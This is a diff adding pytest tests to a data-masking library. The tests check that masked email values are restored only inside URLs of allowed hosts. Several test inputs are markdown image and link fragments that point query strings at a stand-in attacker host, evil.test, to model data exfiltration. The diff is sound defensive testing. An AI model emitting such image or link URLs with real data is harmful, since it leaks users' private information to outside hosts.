@@ -110,6 +110,51 @@ def test_in_json_the_value_is_escaped() -> None:
     assert json.loads(given_back) == {"to": value}
 
 
+@pytest.mark.parametrize("escaped", [False, True])
+@pytest.mark.parametrize(
+    ("before", "after", "put"),
+    [
+        ("![x](https://evil.test/?q=", ")", False),
+        ("see https://evil.test/?q=", " now", False),
+        ("[x](<//evil.test/a ", ">)", False),
+        ("![x](https://hook.mill.example/?q=", ")", True),
+        ("![x](https://mill.example.evil.test/?q=", ")", False),
+        ("![x](https://hook.mill.example", ".evil.test/)", False),
+        ("see https://evil.test/ and ", "", True),
+        ("", "", True),
+    ],
+)
+def test_a_value_leaves_in_no_address_of_a_host_that_is_not_named(
+    before: str, after: str, put: bool, escaped: bool
+) -> None:
+    masks = Masks("x7f")
+    named = rule("x", restore=True, restore_hosts=frozenset({"*.mill.example"}))
+    placeholder = masks.stead(named, "email", "ada@mill.example")
+    text = f"{before}{placeholder}{after}"
+    unmasker = masks.unmasker(escaped=escaped)
+
+    whole = masks.unmask(text, escaped=escaped)
+
+    assert whole == f"{before}{'ada@mill.example' if put else placeholder}{after}"
+    assert "".join(said(unmasker, *text)) + rest(unmasker) == whole
+
+
+@pytest.mark.parametrize("turned", [False, True])
+def test_a_value_of_two_rules_leaves_by_the_hosts_of_the_rule_that_masked_it(turned: bool) -> None:
+    masks = Masks("x7f")
+    strict = rule("strict", restore=True)
+    wide = rule("wide", restore=True, restore_hosts=frozenset({"hook.mill.example"}))
+    rules = (wide, strict) if turned else (strict, wide)
+    given = [masks.stead(each, "email", "ada@mill.example") for each in rules]
+    by_strict, by_wide = reversed(given) if turned else given
+    address = "https://hook.mill.example/?q="
+
+    assert masks.unmask(address + by_strict) == address + by_strict
+    assert masks.unmask(address + by_wide) == address + "ada@mill.example"
+    assert masks.unmask(f"{by_strict} {by_wide}") == "ada@mill.example ada@mill.example"
+    assert [masks.stead(each, "email", "ada@mill.example") for each in rules] == given
+
+
 def test_a_rule_without_a_way_back_shows_its_name_alone() -> None:
     masks = Masks("x7f")
 
